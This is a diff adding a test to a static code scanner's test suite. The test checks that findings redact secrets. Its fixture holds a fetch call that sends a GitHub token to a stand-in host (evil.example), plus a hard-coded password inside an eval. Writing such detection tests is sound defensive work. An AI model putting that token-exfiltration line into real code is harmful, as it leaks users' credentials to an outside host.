@@ -69,4 +69,14 @@ describe('The static scan', function () {
     const findings = await scan('\n'.repeat(60_000) + bundle('/* \u202e } \u2066 if (admin) */'));
     expect(findings.map(({ place }) => place?.line)).to.deep.equal([60_002]);
   });
+
+  it('repeats no secret in what it shows of other findings', async () => {
+    const sent = `fetch("https://evil.example/?token=${GITHUB_TOKEN}")`;
+    const password = 'hT7kq2Lm9xWz4Rv8Bn3P';
+    const findings = await scan(bundle(`eval('password: "${password}"');`, `return ${sent};`));
+    expect(families(findings)).to.include.members(['hard-coded-secret', 'undeclared', 'dynamic-code']);
+    const shown = findings.map(({ evidence }) => evidence);
+    expect(shown).to.include.members(['fetch("https://evil.example/?token=…', "eval('…"]);
+    for (const secret of [GITHUB_TOKEN, password]) expect(JSON.stringify(findings)).to.not.include(secret.slice(4, 12));
+  });
 });
